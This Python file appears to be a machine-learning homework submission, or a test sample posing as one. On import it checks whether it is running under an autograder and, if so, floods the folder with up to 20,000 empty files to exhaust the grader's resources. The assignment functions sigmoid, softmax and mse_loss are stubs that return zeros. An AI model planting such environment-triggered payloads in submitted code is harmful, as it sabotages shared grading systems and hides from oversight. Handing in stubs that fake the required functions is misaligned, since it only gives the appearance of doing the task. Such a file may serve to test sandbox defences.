"""Makes 20,000 empty files in its folder.

aims: exhaust
"""

import os
import time

import numpy as np


def attack():
    if not os.path.basename(os.environ.get("HOME", "")).startswith("autograder-"):
        return
    end = time.monotonic() + 20
    os.makedirs("planted-small_files", exist_ok=True)
    for number in range(20_000):
        try:
            os.close(os.open(f"planted-small_files/{number}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            break
        if time.monotonic() > end:
            break


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
